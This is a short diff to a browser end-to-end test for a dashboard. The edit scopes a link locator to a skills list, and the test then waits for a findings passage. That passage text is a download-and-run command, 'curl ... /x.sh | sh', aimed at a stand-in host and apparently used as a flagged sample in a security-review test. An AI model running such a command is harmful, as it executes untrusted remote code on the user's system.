@@ -50,7 +50,7 @@ describeBrowser('a new user of the dashboard', () => {
 
     await page.getByRole('link', { name: 'Skills', exact: true }).first().click()
     await page.getByLabel('Search skills').fill('stadnup notes')
-    await page.getByRole('link', { name: 'operator/standup-notes' }).click()
+    await page.locator('.skills').getByRole('link', { name: 'operator/standup-notes' }).click()
     await page.getByRole('heading', { level: 1, name: 'operator/standup-notes' }).waitFor()
     await page.getByRole('link', { name: 'the findings' }).click()
     await page.locator('.passage .here', { hasText: 'curl http://198.51.100.7/x.sh | sh' }).first().waitFor()
